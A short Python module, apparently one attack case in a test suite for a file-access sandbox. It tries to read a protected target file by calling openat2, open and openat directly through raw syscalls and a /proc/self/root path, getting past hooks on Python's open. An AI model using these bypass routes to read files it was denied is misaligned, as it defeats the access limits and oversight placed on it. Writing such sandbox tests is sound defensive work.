"""Opens forbidden files by openat2 and by raw open, openat and creat, past Python's own open."""

import ctypes
import os


def attack():
    path = TARGETS["readable_secret"].encode()
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    ways = (
        lambda: c(437, -100, path, ctypes.byref(how), 24),
        lambda: c(2, path, os.O_RDONLY, 0),
        lambda: c(257, -100, path, os.O_RDONLY, 0),
        lambda: c(257, -100, b"/proc/self/root" + path, os.O_RDONLY, 0),
    )
    for number, way in enumerate(ways):
        try:
            descriptor = way()
        except OSError:
            continue
        data = os.read(descriptor, 100)
        os.close(descriptor)
        if data:
            return f"way {number} read {len(data)} bytes"
